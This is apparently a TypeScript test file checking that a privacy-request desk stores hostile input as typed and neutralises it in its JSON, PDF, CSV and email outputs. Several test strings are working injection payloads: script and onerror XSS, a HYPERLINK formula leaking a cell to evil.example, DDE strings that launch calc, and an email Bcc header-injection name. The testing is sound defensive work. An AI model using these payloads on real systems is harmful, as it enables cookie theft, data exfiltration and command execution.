// Names, comments and file names holding HTML, script, right-to-left marks, NUL bytes and emoji are stored as typed and
// come out as text in every file the desk writes: the disclosure package (JSON and PDF), the provision register CSV,
// the audit CSV, an import's rejected rows and the .eml notices. No CSV cell can start a formula in a spreadsheet.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { parse } from 'csv-parse/sync';
import { simpleParser } from 'mailparser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CustomerRecord } from '../../../src-shared/customers';
import type { DisclosurePackage, NoticeRow, RequestDetail } from '../../../src-shared/requests';
import { asUpload, scannedPdf } from '../../fixtures/scans';
import { addAccount, asOfficer, errorOf, makeDesk, officer, signInAs, staffMember, type TestDesk } from '../helpers/desk';
import { intake, propose, register, verifyIdentity } from '../core/disclosures/steps';
import { formulaStart, hostile, hostileText } from './hostile';

let desk: TestDesk;
let customer: CustomerRecord;
let request: RequestDetail;
const db = () => desk.core.desk.requireDb();

const customerInput = {
  customerNo: 'H-0001',
  name: hostile.name,
  nameKana: 'ヤマダ タロウ',
  postalCode: '150-0001',
  prefecture: '東京都',
  city: hostile.script,
  addressLine1: hostile.formula,
  addressLine2: hostile.nul,
  provenance: 'registration',
  emails: [{ address: 'hostile.yamada@example.jp' }],
  orders: [{ orderId: 'ORD-H-1', orderedOn: '2026-10-01', items: hostile.dde, amount: 1980 }],
  feedback: [{ kind: 'feedback', receivedOn: '2026-10-10', subject: hostile.emoji, text: hostileText(5000) }],
};

const cellsOf = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: true });

beforeAll(async () => {
  desk = makeDesk({ printer: true });
  await desk.ok('setup.createOfficer', officer);
  const staffId = await addAccount(desk, staffMember);
  await desk.ok('statements.record', { accountId: staffId, templateVersion: 1, signedOn: '2026-11-01', trainingOn: '2026-11-01', scan: asUpload(scannedPdf(), 's.pdf', 'application/pdf') });
  customer = await desk.ok<CustomerRecord>('customers.create', customerInput);
  await signInAs(desk, staffMember);
  request = await register(desk, intake({ kind: 'disclosure', customerId: customer.id, requester: { name: hostile.name, email: 'hostile.yamada@example.jp' }, asked: hostileText(4000) }));
  await desk.ok('requests.comment', { id: request.id, text: `${hostile.script} ${hostile.emoji}` });
  await desk.ok('requests.attach', { id: request.id, file: { fileName: hostile.htmlFileName, mediaType: 'application/pdf', dataBase64: scannedPdf().toString('base64') } });
}, 120_000);
afterAll(async () => desk.dispose());

describe('hostile text is stored exactly as typed', () => {
  it('the record gives back every field as it was sent: markup, RTL mark, emoji, NUL byte and all', async () => {
    await asOfficer(desk);
    const record = await desk.ok<CustomerRecord>('customers.get', { id: customer.id });
    expect(record).toMatchObject({ name: hostile.name, city: hostile.script, addressLine1: hostile.formula, addressLine2: hostile.nul });
    expect(record.orders[0]!.items).toBe(hostile.dde);
    expect(record.feedback[0]).toMatchObject({ subject: hostile.emoji, text: hostileText(5000) });
  });

  it('the request keeps the 4,000-character ask, the comment and the file name as typed', async () => {
    await signInAs(desk, staffMember);
    const detail = await desk.ok<RequestDetail>('requests.get', { id: request.id });
    expect(detail.requester?.name).toBe(hostile.name);
    expect(detail.asked).toBe(hostileText(4000));
    expect(detail.comments.map((c) => c.text)).toEqual([`${hostile.script} ${hostile.emoji}`]);
    expect(detail.attachments.map((a) => a.fileName)).toEqual([hostile.htmlFileName]);
  });

  it('where the contract caps lower than 10,000 characters the refusal names the field and the rule, and 10,000 are kept where it allows', async () => {
    await asOfficer(desk);
    const refused = errorOf(await desk.call('customers.create', { ...customerInput, customerNo: 'H-0002', name: hostileText(10_000) }));
    expect(refused).toEqual({ code: 'VALIDATION', message: 'validation.input', details: { issues: [{ path: 'name', message: 'tooLong' }] } });
    const template = await desk.ok<{ version: number; textJa: string }>('statements.saveTemplate', { textJa: hostileText(10_000), textEn: hostile.script });
    expect(template.textJa).toBe(hostileText(10_000));
  });
});

describe('the disclosure package carries the text as text', () => {
  let pkg: DisclosurePackage;
  beforeAll(async () => {
    await signInAs(desk, staffMember);
    await verifyIdentity(desk, request.id);
    const proposalId = await propose(desk, { requestId: request.id, kind: 'disclose' });
    await asOfficer(desk);
    await desk.ok('proposals.decide', { id: proposalId, decision: 'approve' });
    await signInAs(desk, staffMember);
    pkg = await desk.ok<DisclosurePackage>('disclosures.build', { requestId: request.id });
  }, 120_000);

  it('the JSON holds every value exactly, as JSON strings', () => {
    const json = JSON.parse(readFileSync(pkg.jsonFile, 'utf8'));
    expect(json.person).toMatchObject({ name: hostile.name, city: hostile.script, addressLine1: hostile.formula, addressLine2: hostile.nul });
    expect(json.orders[0].items).toBe(hostile.dde);
    expect(json.feedback[0].text).toBe(hostileText(5000));
  });

  it('the PDF shows the markup as characters (it was escaped, never run) and nothing in it acts', () => {
    const text = execFileSync('pdftotext', ['-layout', pkg.pdfFile, '-']).toString();
    const flat = text.replace(/\s+/g, ' ');
    expect(flat).toContain('<img src=x onerror=alert(1)>');
    expect(flat).toContain('<script>alert(document.cookie)</script>');
    expect(flat).toContain('=HYPERLINK("http://evil.example/?leak="&A1,"click")');
    expect(flat).toContain("@SUM(1+1)*cmd|' /C calc'!A0");
    const raw = readFileSync(pkg.pdfFile).toString('latin1');
    expect(raw).not.toMatch(/\/(JavaScript|JS|OpenAction|Launch|AA)\b/);
  });
});

describe('CSV files neutralise formulas: a cell never starts with = + - @ or a tab', () => {
  it('the provision register: the partner typed as formulas, the items as DDE', async () => {
    await asOfficer(desk);
    const partner = await desk.ok<{ id: string }>('partners.create', {
      name: hostile.formula,
      address: hostile.plus,
      representative: hostile.minus,
      roles: ['advertiser'],
      country: 'JP',
      securityMeasures: hostile.script,
      contactName: hostile.tab,
      contactEmail: 'privacy@partner.example.jp',
    });
    await desk.ok('provisionConsents.record', { customerId: customer.id, partnerId: partner.id, givenOn: '2026-11-20', channel: 'web' });
    await desk.ok('provisions.create', { partnerId: partner.id, providedOn: '2026-11-25', items: hostile.dde, basis: 'consent', customerIds: [customer.id] });
    const { file } = await desk.ok<{ file: string }>('provisions.export', { format: 'csv' });
    const cells = cellsOf(readFileSync(file, 'utf8')).flat();
    expect(cells).toContain(`'${hostile.formula}`);
    expect(cells).toContain(`'${hostile.dde}`);
    expect(cells).toContain(`'${hostile.plus}`);
    expect(cells).toContain(`'${hostile.minus}`);
    expect(cells.filter((c) => formulaStart.test(c))).toEqual([]);
  });

  it('the audit CSV names ids and fields only: none of the hostile text is in it, and no cell is a formula', async () => {
    const { csvPath } = await desk.ok<{ csvPath: string }>('audit.export', {});
    const csv = readFileSync(csvPath, 'utf8');
    for (const value of [hostile.name, hostile.script, hostile.formula, hostile.dde, '山田']) expect(csv).not.toContain(value);
    expect(cellsOf(csv).flat().filter((c) => formulaStart.test(c))).toEqual([]);
  });

  it("an import's rejected rows keep the refused cells as they came, each formula behind an apostrophe, a line break inside its cell", async () => {
    const header = '顧客番号,氏名,フリガナ,郵便番号,都道府県,市区町村,住所1';
    const rows = [
      `H-0101,"${hostile.formula.replace(/"/g, '""')}",ヤマダ タロウ,not-a-postcode,東京都,渋谷区,神宮前1-1-1`,
      `H-0102,"${hostile.dde}",ヤマダ ハナコ,〒?,東京都,"@cmd|' /C calc'!A0","-1+1"`,
      `H-0103,"二行の\n名前",ヤマダ,150,東京都,"\t=1+1",+81`,
    ];
    const csv = Buffer.from(`\uFEFF${header}\r\n${rows.join('\r\n')}\r\n`, 'utf8');
    const result = await desk.ok<{ rejected: number; rejectedPath: string }>('customers.importCommit', { language: 'ja', file: { fileName: `${hostile.rtlFileName}${hostile.htmlFileName}.csv`, dataBase64: csv.toString('base64') } });
    expect(result.rejected).toBe(3);
    const cells = cellsOf(readFileSync(result.rejectedPath, 'utf8'));
    const flat = cells.flat();
    expect(flat).toContain(`'${hostile.formula}`);
    expect(flat).toContain(`'-1+1`);
    expect(flat.filter((c) => formulaStart.test(c))).toEqual([]);
    // Every row has the header's width plus the reason: the quoted line break stayed inside its cell.
    expect(new Set(cells.map((r) => r.length)).size).toBe(1);
    // Named after the import, but with neither markup nor a right-to-left override that would turn the name around.
    expect(result.rejectedPath).not.toMatch(/[<>\u202e]/);
    expect(result.rejectedPath).toMatch(/rejected-請求書_fdp\.exe_img src=x onerror=alert\(1\)_\.pdf-\d{8}-\d{6}\.csv$/);
  });
});

describe('the .eml notice carries the name as plain text, and no header can be smuggled in', () => {
  it('the receipt notice names the requester as typed, in a text-only message', async () => {
    await signInAs(desk, staffMember);
    const notice = await desk.ok<NoticeRow>('notices.render', { requestId: request.id, kind: 'receipt', language: 'ja' });
    const mail = await simpleParser(readFileSync(notice.emlFile!));
    expect(mail.html).toBe(false);
    expect(mail.text).toContain(hostile.name);
    expect(mail.attachments).toEqual([]);
  });

  it('a requester name with a line break and a Bcc header stays in the body: the message goes to the one address', async () => {
    const smuggler = await register(desk, intake({ kind: 'disclosure', requester: { name: hostile.headerInjection, email: 'smuggler@example.jp' } }));
    const notice = await desk.ok<NoticeRow>('notices.render', { requestId: smuggler.id, kind: 'receipt', language: 'ja' });
    const raw = readFileSync(notice.emlFile!, 'utf8');
    const mail = await simpleParser(raw);
    expect(mail.bcc).toBeUndefined();
    expect(raw).not.toMatch(/^Bcc:/im);
    expect(mail.to && !Array.isArray(mail.to) ? mail.to.value.map((a) => a.address) : []).toEqual(['smuggler@example.jp']);
  });
});
